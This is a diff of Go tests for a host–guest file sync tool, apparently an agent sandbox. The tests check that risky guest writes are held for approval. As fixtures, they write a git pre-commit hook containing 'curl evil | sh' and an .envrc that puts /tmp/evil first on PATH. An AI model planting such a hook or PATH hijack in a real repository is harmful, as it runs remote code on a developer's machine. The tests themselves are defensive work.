@@ -163,7 +163,7 @@ func TestGuestLinkOutIsHeld(t *testing.T) {
 
 func TestHeldFilesWaitForApproval(t *testing.T) {
 	p := newPair(t, Options{})
-	write(t, p.host, ".git/config", "[core]\n\tbare = false\n")
+	write(t, p.host, ".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/r\n")
 	p.sync(t)
 	write(t, p.guest, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
 	write(t, p.guest, ".envrc", "export PATH=/tmp/evil:$PATH")
@@ -181,11 +181,12 @@ func TestHeldFilesWaitForApproval(t *testing.T) {
 	if read(p.host, "main.go") != "fine" {
 		t.Fatal("an ordinary file was held too")
 	}
-	if n := len(p.e.Status().Held); n != 3 {
-		t.Fatalf("%d held, want 3: %+v", n, p.e.Status().Held)
+	// .git/hooks (the folder) too: hooks/ is off the allow-list.
+	if n := len(p.e.Status().Held); n != 4 {
+		t.Fatalf("%d held, want 4: %+v", n, p.e.Status().Held)
 	}
 	// Harmless git config change passes.
-	write(t, p.guest, ".git/config", "[core]\n\tbare = false\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")
+	write(t, p.guest, ".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/r\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")
 	p.sync(t)
 	if !strings.Contains(read(p.host, ".git/config"), "branch") {
 		t.Fatal("a harmless git config change was held")
@@ -359,12 +360,12 @@ func TestGitCommitUnderHostLocks(t *testing.T) {
 		write(t, dir, ".git/HEAD", "ref: refs/heads/main\n")
 		write(t, dir, ".git/refs/heads/main", "aaaa\n")
 		write(t, dir, ".git/index", "index A")
-		write(t, dir, ".git/objects/aa/aa", "object A")
+		write(t, dir, ".git/objects/aa/"+strings.Repeat("a", 38), "object A")
 	}
 	p.sync(t)
 
 	// The agent commits; its git is still at work (index.lock).
-	write(t, p.guest, ".git/objects/bb/bb", "object B")
+	write(t, p.guest, ".git/objects/bb/"+strings.Repeat("b", 38), "object B")
 	write(t, p.guest, ".git/refs/heads/main", "bbbb\n")
 	write(t, p.guest, ".git/index", "index B")
 	write(t, p.guest, ".git/index.lock", "half-written index")
@@ -375,7 +376,7 @@ func TestGitCommitUnderHostLocks(t *testing.T) {
 	if err := p.e.Sync(ctx, nil); err != nil {
 		t.Fatal(err)
 	}
-	if got := read(p.host, ".git/objects/bb/bb"); got != "object B" {
+	if got := read(p.host, ".git/objects/bb/"+strings.Repeat("b", 38)); got != "object B" {
 		t.Fatalf("the new object did not go ahead: %q", got)
 	}
 	if got := read(p.host, ".git/refs/heads/main"); got != "aaaa\n" {
